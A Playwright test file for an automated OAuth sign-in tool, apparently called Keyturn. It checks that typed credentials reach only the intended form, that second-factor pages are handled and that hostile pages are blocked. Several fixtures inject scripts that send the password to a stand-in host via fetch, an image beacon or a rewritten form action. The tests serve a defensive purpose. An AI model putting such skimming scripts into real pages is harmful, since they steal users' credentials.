/**
 * Walks through a sample of the corpus in Chromium, from the authorization request to the callback, and checks what
 * each page was sent.
 */
import { expect } from '@playwright/test';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { HostGuard } from '../../helpers/http/hosts.ts';
import { SecretRegistry } from '../../helpers/secrets/registry.ts';
import type { SignedIn } from '../../helpers/sign-in/outcome.ts';
import { signIn } from '../../helpers/sign-in/walk.ts';
import { Blocked } from '../../helpers/verdict/errors.ts';
import { test as base } from '../support/chromium.ts';
import { CORPUS } from './corpus/index.ts';
import type { CorpusPage } from './corpus/page.ts';

const EMAIL = 'ada@mail.invalid';
const PASSWORD = 'Correct-Horse-7-Battery';
const PASSCODE = '482915';
const CALLBACK = 'http://127.0.0.1:9/callback';

/** The requests, such as `POST /login`, with the fields that identify a user. */
interface Came {
  to: string;
  body: string;
}

interface Tenant {
  walk: (pages: { signIn: CorpusPage | string; then?: CorpusPage; reply?: Reply }) => Promise<SignedIn>;
  came: Came[];
}

/** Answers in place of the tenant. Returns whether it did. */
type Reply = (request: IncomingMessage, response: ServerResponse, body: string, count: number) => boolean;

const PLAIN = `<!doctype html><title>Sign in</title><form method="post" action="/access/login">
  <input type="email" name="email" autocomplete="username"><input type="password" name="password" autocomplete="current-password">
  <button>Sign in</button></form>`;

/** A small tenant: it has one user, shows one page of the corpus, and redirects to the callback. */
const test = base.extend<{ tenant: Tenant }>({
  tenant: async ({ chromium }, use) => {
    const came: Came[] = [];
    let first = '';
    let next: CorpusPage | undefined;
    let reply: Reply | undefined;
    let isSignedIn = false;
    let owesNext = false;
    const server = createServer((request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        const path = request.url?.split('?')[0] ?? '';
        const to = `${request.method ?? ''} ${path}`;
        if (request.method !== 'GET') came.push({ to, body: decodeURIComponent(body.replaceAll('+', ' ')) });
        const count = came.filter((one) => one.to === to).length;
        if (reply?.(request, response, body, count) === true) return;
        const show = (html: string) => {
          response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
          response.end(/^\s*<!doctype/i.test(html) ? html : `<!doctype html><meta charset="utf-8">${html}`);
        };
        const lead = (location: string) => response.writeHead(302, { location }).end();
        if (request.method === 'POST') {
          const text = decodeURIComponent(body);
          if (text.includes(PASSWORD)) {
            isSignedIn = true;
            owesNext = next !== undefined;
          } else if (isSignedIn) owesNext = false;
          lead('/oauth/authorizations/new');
        } else if (path !== '/oauth/authorizations/new') {
          if (isSignedIn && owesNext && path === '/next') show(next?.html ?? '');
          else if (isSignedIn && !/favicon/.test(path)) {
            // Every link on an interstitial continues to the callback.
            owesNext = false;
            lead('/oauth/authorizations/new');
          } else show(first);
        } else if (!isSignedIn) lead('/auth/v2/login/signin');
        else if (owesNext) lead('/next');
        else lead(`${CALLBACK}?code=the-code&state=s`);
      });
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    const origin = `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`;
    await use({
      came,
      walk: (pages) => {
        first = typeof pages.signIn === 'string' ? pages.signIn : pages.signIn.html;
        next = pages.then;
        reply = pages.reply;
        return signIn(
          {
            url: `${origin}/oauth/authorizations/new`,
            redirectUris: [CALLBACK],
            credentials: { email: EMAIL, password: PASSWORD },
            passwordFormUrl: `${origin}/access/normal`,
            deviceCookies: [],
          },
          {
            browser: chromium,
            guard: new HostGuard([]),
            secrets: new SecretRegistry(),
            passcodes: { title: 'a test', read: () => Promise.resolve(PASSCODE) },
            usedPasscodes: new Set(),
            userAgentSuffix: 'Keyturn',
            limits: { patienceMs: 1000, deadlineMs: 30_000 },
          },
        );
      },
    });
    server.closeAllConnections();
    server.close();
  },
});

/** These pages of the corpus work without a special server. */
function named(...names: string[]): CorpusPage[] {
  return names.map((name) => {
    const found = CORPUS.find((page) => page.name === name);
    if (found === undefined)
      throw new Error(`The corpus has no page “${name}” any more: choose another one.`);
    return found;
  });
}

const FILLED = named(
  'plain-form',
  'button-aria-disabled-before-typing',
  'captcha-frame-in-the-form',
  'register-above-with-a-name',
);
const OTHER = named(
  'register-alone-with-terms',
  'action-on-another-host',
  'register-alone-with-two-fields',
  'two-forms-with-unknown-words',
);
const AFTERWARDS = named(
  'authenticator-with-a-way-past',
  'code-in-a-modal-dialog',
  'code-called-twofactor',
  'code-with-a-button-that-waits-for-it',
);

/** Where a page of the corpus expects its password: the URL of the right form, as far as its HTML names one. */
function expectedTarget({ html, right }: CorpusPage): RegExp {
  const id = 'type' in right ? (right.type.password ?? '') : '';
  const before = html.split(new RegExp(`\\sid=["']?${id}["'\\s>]`, 'u'))[0] ?? '';
  const form = before.match(/<form[^>]*>/gu)?.at(-1) ?? '';
  const action = /action="([^"?]*)/u.exec(form)?.[1] ?? '';
  return new RegExp(`^POST ${action === '' ? '/' : action}`, 'u');
}

test.describe('a page that signs in is walked through, and the password goes to its form alone', () => {
  for (const one of FILLED) {
    test(one.name, async ({ tenant }) => {
      expect(await tenant.walk({ signIn: one })).toMatchObject({ outcome: 'answered', passwordTyped: true });
      const withPassword = tenant.came.filter(({ body }) => body.includes(PASSWORD));
      expect(withPassword.map(({ to }) => to)).toEqual([expect.stringMatching(expectedTarget(one))]);
    });
  }
});

test.describe('a page whose form is about something else gets nothing that was typed', () => {
  for (const one of OTHER) {
    test(one.name, async ({ tenant }) => {
      const came: unknown = await tenant.walk({ signIn: one }).catch((error: unknown) => error);
      expect(came).toBeInstanceOf(Blocked);
      expect(String(came)).not.toContain('KEYTURN_WRITE_HOSTS');
      expect(tenant.came.filter(({ body }) => body.includes(PASSWORD) || body.includes(EMAIL))).toEqual([]);
    });
  }
});

test.describe('what comes after the password is answered or passed by', () => {
  for (const one of AFTERWARDS) {
    test(one.name, async ({ tenant }) => {
      expect(await tenant.walk({ signIn: PLAIN, then: one })).toMatchObject({ outcome: 'answered' });
      expect(tenant.came.filter(({ body }) => body.includes(PASSWORD))).toHaveLength(1);
    });
  }
});

test.describe('a password that is about to go astray is stopped', () => {
  const STRANGER = 'http://stranger.invalid/collect';
  for (const [title, page] of [
    [
      'by a script that sends it to somebody else',
      PLAIN.replace(
        '<button',
        `<script>document.currentScript.form; document.forms[0].onsubmit = (event) => { event.preventDefault();
        fetch('${STRANGER}', { method: 'POST', mode: 'no-cors', body: document.forms[0].password.value }); }</script><button`,
      ),
    ],
    [
      'by a picture',
      PLAIN.replace(
        '<button',
        `<script>document.forms[0].onsubmit = (event) => { event.preventDefault();
        new Image().src = '${STRANGER}?' + encodeURIComponent(document.forms[0].password.value); }</script><button`,
      ),
    ],
    ['by a form that puts it into the address', PLAIN.replace('method="post"', 'method="get"')],
    [
      'by a form that is turned to somebody else when it is sent',
      PLAIN.replace(
        '<button',
        `<script>document.forms[0].onsubmit = () => { document.forms[0].action = '${STRANGER}'; }</script><button`,
      ),
    ],
  ] as const) {
    test(title, async ({ tenant }) => {
      const came: unknown = await tenant.walk({ signIn: page }).catch((error: unknown) => error);
      expect(came).toBeInstanceOf(Blocked);
      expect((came as Error).message).toMatch(
        /tried to send the password to .*; Keyturn stopped it, and nothing was sent/,
      );
      expect((came as Error).message).not.toContain('Correct-Horse');
      expect((came as Error).message).not.toContain('KEYTURN_WRITE_HOSTS');
      expect(tenant.came).toEqual([]);
    });
  }
});

test.describe('a second window gets nothing', () => {
  for (const [title, page] of [
    ['for the form itself', PLAIN.replace('<form', '<form target="_blank"')],
    [
      'for a form of somebody else',
      PLAIN.replace(
        '<button',
        `<script>document.forms[0].onsubmit = () => {
        document.forms[0].target = '_blank'; document.forms[0].action = 'http://stranger.invalid/'; }</script><button`,
      ),
    ],
  ] as const) {
    test(title, async ({ tenant }) => {
      const came: unknown = await tenant.walk({ signIn: page }).catch((error: unknown) => error);
      expect(came).toBeInstanceOf(Blocked);
      expect((came as Error).message).toMatch(
        /Sending the password opened another window|tried to send the password to/,
      );
      expect(tenant.came).toEqual([]);
    });
  }
});

test('a form that is turned to another path while it is filled in is not sent', async ({ tenant }) => {
  const turned = PLAIN.replace(
    '<button',
    `<script>document.forms[0].oninput = () => { document.forms[0].action = '/elsewhere'; }</script><button`,
  );
  const came: unknown = await tenant.walk({ signIn: turned }).catch((error: unknown) => error);
  expect(String(came)).toMatch(
    /The form was not sent, because its target changed from \S+ to \/elsewhere while it was filled in/,
  );
  expect(tenant.came).toEqual([]);
});

test('after the password was answered 429 with a list of waits, it is typed once more', async ({
  tenant,
}) => {
  const busy: Reply = (request, response, _, count) => {
    if (request.method !== 'POST' || count > 1) return false;
    response
      .writeHead(429, { 'content-type': 'text/html', 'retry-after': '1, 2' })
      .end('<p>Please wait.</p>');
    return true;
  };
  const walked = await tenant.walk({ signIn: PLAIN, reply: busy });
  expect(walked).toMatchObject({ outcome: 'answered' });
  expect(walked.steps).toContainEqual({ did: 'waited', ms: 2000 });
  expect(tenant.came).toHaveLength(2);
});
